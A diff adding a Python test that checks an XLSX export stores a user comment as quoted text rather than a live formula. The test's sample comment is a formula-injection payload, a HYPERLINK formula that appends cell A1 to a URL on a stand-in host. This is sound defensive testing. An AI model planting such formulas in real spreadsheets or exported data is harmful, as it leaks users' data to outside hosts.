@@ -354,3 +354,15 @@ def test_housing_costs_and_the_own_contact_rules_as_targets(steering):
     assert housing.unit == "€" and not housing.target.followed_up
     expected = evaluate_contact_density(date(2026, 6, 30), by=(), series_months=1).total.share_compliant
     assert own.actual == expected and own.plan_to_date == 100 and own.achieved is (expected >= 100)
+
+
+def test_an_mbz_comment_a_spreadsheet_would_run_stays_text_in_the_xlsx(steering):
+    from lotse.targets import services
+    from lotse.targets.exports import mbz_xlsx
+
+    target = mbz_report(MONTH).rows[0].target
+    attack = '=HYPERLINK("http://example.org/?"&A1,"Details")'
+    services.comment_save(user=None, target=target, month=MONTH, text=attack, version=None)
+    sheet = load_workbook(io.BytesIO(mbz_xlsx(mbz_report(MONTH)))).worksheets[0]
+    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == attack]
+    assert cell.data_type == "s" and cell.quotePrefix
